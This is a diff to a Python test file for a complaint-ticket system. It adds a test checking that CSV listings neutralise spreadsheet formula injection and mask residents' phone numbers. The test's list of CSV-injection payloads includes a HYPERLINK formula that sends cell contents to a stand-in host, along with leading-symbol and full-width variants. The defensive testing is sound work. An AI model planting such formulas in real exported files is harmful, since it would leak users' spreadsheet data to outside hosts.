@@ -365,7 +365,7 @@ async def make_grids(count: int) -> list[tuple[Unit, int]]:
     return grids
 
 
-async def bulk_tickets(rt, grids, n: int, *, filed: dt.datetime, prefix: str = "ST") -> None:
+async def bulk_tickets(rt, grids, n: int, *, filed: dt.datetime, prefix: str = "ST", place=None) -> None:
     d = rt.sla.deadlines("noise", False, filed, calendar=rt.calendar, tz=rt.tz)
     rows = []
     for i in range(n):
@@ -373,7 +373,7 @@ async def bulk_tickets(rt, grids, n: int, *, filed: dt.datetime, prefix: str = "
         rows.append(Ticket(
             number=f"{prefix}-{i:06d}", text="楼上装修噪音", category="noise", grid_id=unit.id, unit_id=unit.id,
             level=Level.GRID, status=Status.ASSIGNED, created_at=filed, updated_at=filed, assigned_at=filed,
-            location_text=f"惠民小区{i % 40}号楼", yellow_at=d.yellow_at, red_at=d.red_at, due_at=d.due_at,
+            location_text=place(i) if place else f"惠民小区{i % 40}号楼", yellow_at=d.yellow_at, red_at=d.red_at, due_at=d.due_at,
             due_workdays=d.due_workdays,
         ))
     await Ticket.bulk_create(rows, batch_size=1000)
@@ -464,6 +464,28 @@ def test_a_list_longer_than_three_messages_is_a_summary_and_a_file():
 async def reminders(chat_id: int) -> list[Outbox]:
     """What a chat is told by the sweep: texts and files, not cards."""
     return await Outbox.filter(chat_id=chat_id, ref__isnull=True).order_by("id")
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A2,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
+            "＝1+1", "＋1", "－1", "＠SUM(A1)", " =1+1"]
+
+
+async def test_the_csv_list_keeps_places_typed_as_formulas_as_text_and_masks_phones(rt):
+    """A place reaches the list as a resident or an Open311 client typed it: no cell may start
+    a formula when the file is opened (OWASP's rule: a leading '), and no phone number leaves."""
+    grid = await Unit.get(code="nanhaijie1-01")
+    places = [*FORMULAS, "3号楼，电话13800138000"]
+    await bulk_tickets(rt, [(grid, GRID_NHJ1_01_CHAT)], 600, filed=FILED, prefix="YL",
+                       place=lambda i: places[i % len(places)])  # more than three messages hold: a file
+    at(rt, FILED + 24 * H)
+    await sla_sweep.sweep(rt)
+    [listing] = [m for m in await reminders(GRID_NHJ1_01_CHAT) if m.file_data is not None]
+    rows = list(csv.reader(io.StringIO(bytes(listing.file_data).decode("utf-8-sig"))))
+    column = rows[0].index("地点")
+    cells = {r[column] for r in rows[1:]}
+    assert len(rows) == 601 and all(c[:1] == "'" for c in cells if not c.startswith("3号楼"))
+    assert {c[1:] for c in cells if c[:1] == "'"} == {f if len(f) <= 24 else f[:24] + "…" for f in FORMULAS}
+    assert "3号楼，电话138****8000" in cells and "13800138000" not in listing.file_data.decode("utf-8-sig")
 
 
 async def test_one_grid_with_hundreds_due_hears_of_each_once_in_three_messages_at_most(rt):
